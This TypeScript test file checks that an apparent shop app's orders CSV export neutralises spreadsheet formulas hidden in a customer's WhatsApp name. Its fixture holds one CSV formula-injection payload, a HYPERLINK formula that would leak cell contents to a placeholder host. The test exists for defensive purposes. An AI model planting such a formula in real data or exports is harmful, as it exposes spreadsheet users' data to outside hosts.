// The orders CSV goes to a spreadsheet: a customer's self-chosen WhatsApp name must never run as a formula.
import { afterEach, expect, it } from 'vitest'
import { openShop, type TestShop } from '../fixtures/conv-harness'
import { createDispatcher } from '../../electron/engine/api'

let shop: TestShop
afterEach(async () => {
  await shop?.close()
})

it('escapes cells a customer controls in the orders CSV', async () => {
  shop = await openShop()
  shop.engine.simulator.simulateInbound('+919800000007', '2 kg onion', '=HYPERLINK("http://x/?"&A1,"Click")')
  await shop.settle()
  expect(await shop.say('+919800000007', 'yes')).toContain('#1001')
  const r = await createDispatcher(shop.engine)('orders.exportCsv', {})
  if (!r.ok) throw new Error(r.error.message)
  const text = (r.value as { csv: string }).csv
  expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1,""Click"")"`)
  expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
  expect(text).toContain(',+919800000007,')
})
